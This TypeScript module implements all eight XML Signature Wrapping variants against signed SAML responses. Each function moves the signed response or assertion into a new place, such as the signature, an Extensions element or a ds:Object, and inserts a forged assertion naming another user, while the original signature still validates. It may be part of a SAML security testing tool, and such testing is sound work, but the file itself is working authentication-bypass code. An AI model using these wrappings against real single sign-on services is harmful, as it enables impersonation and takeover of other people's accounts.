import { newId } from './assertion.js';
import { ASSERTION, PROTOCOL } from './authn-request.js';

export const DSIG = 'http://www.w3.org/2000/09/xmldsig#';

/** The document of a signed response, with what every attack on it needs. */
export interface Signed {
  document: Document;
  response: Element;
  assertion: Element;
}

/** Moves what is signed aside and puts a forgery in its place; each keeps the signature itself valid. */
export const WRAPPINGS = {
  /** The signed response goes into the signature of the forged one. */
  xsw1: (signed: Signed, name_id: string) => {
    const { original, signature } = forgeResponse(signed, name_id);
    signature.appendChild(original);
  },
  /** The signed response goes beside its signature. */
  xsw2: ({ response, ...rest }: Signed, name_id: string) => {
    const { original, signature } = forgeResponse({ response, ...rest }, name_id);
    response.insertBefore(original, signature);
  },
  /** The forgery comes first. */
  xsw3: ({ response, assertion }: Signed, name_id: string) => {
    response.insertBefore(forgedCopy(assertion, name_id), assertion);
  },
  /** The forgery holds the signed assertion. */
  xsw4: ({ response, assertion }: Signed, name_id: string) => {
    const forged = forgedCopy(assertion, name_id);
    response.replaceChild(forged, assertion);
    forged.appendChild(assertion);
  },
  /** The forgery has the signature; what it signs is behind it. */
  xsw5: ({ response, assertion }: Signed, name_id: string) => {
    const original = withoutSignature(assertion);
    forge(assertion, name_id);
    response.appendChild(original);
  },
  /** The forgery has the signature, and in it what it signs. */
  xsw6: ({ assertion }: Signed, name_id: string) => {
    const original = withoutSignature(assertion);
    forge(assertion, name_id);
    signatureOf(assertion).appendChild(original);
  },
  /** The forgery is in Extensions, where the schema allows anything. */
  xsw7: ({ document, response, assertion }: Signed, name_id: string) => {
    const extensions = document.createElementNS(PROTOCOL, 'samlp:Extensions');
    extensions.appendChild(forgedCopy(assertion, name_id));
    response.insertBefore(extensions, response.getElementsByTagNameNS(PROTOCOL, 'Status')[0] ?? null);
  },
  /** As xsw6, with what is signed in an Object of the signature, where the schema allows anything. */
  xsw8: ({ document, assertion }: Signed, name_id: string) => {
    const original = withoutSignature(assertion);
    forge(assertion, name_id);
    const object = document.createElementNS(DSIG, 'ds:Object');
    object.appendChild(original);
    signatureOf(assertion).appendChild(object);
  },
};

/** Writes another person's name, under another ID: two elements of one ID are refused by every reader. */
function forge(assertion: Element, name_id: string): void {
  assertion.setAttribute('ID', newId());
  rename(assertion, name_id);
}

/** Writes another person's name and address, and leaves the ID. */
export function rename(assertion: Element, name_id: string): void {
  const name = assertion.getElementsByTagNameNS(ASSERTION, 'NameID')[0];
  if (name) name.textContent = name_id;
  for (const attribute of Array.from(assertion.getElementsByTagNameNS(ASSERTION, 'Attribute'))) {
    const value = attribute.getElementsByTagNameNS(ASSERTION, 'AttributeValue')[0];
    if (attribute.getAttribute('Name') === 'email' && value) value.textContent = name_id;
  }
}

export function forgedCopy(assertion: Element, name_id: string): Element {
  const forged = withoutSignature(assertion);
  forge(forged, name_id);
  return forged;
}

export function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.removeChild(signatureOf(copy));
  return copy;
}

/** The signature of this very element. */
export function signatureOf(element: Element): Element {
  for (const child of Array.from(element.childNodes)) {
    if (child.nodeName === 'ds:Signature') return child as Element;
  }
  throw new Error(`${element.nodeName} is not signed`);
}

function forgeResponse({ response, assertion }: Signed, name_id: string) {
  const original = withoutSignature(response);
  response.setAttribute('ID', newId());
  forge(assertion, name_id);
  return { original, signature: signatureOf(response) };
}
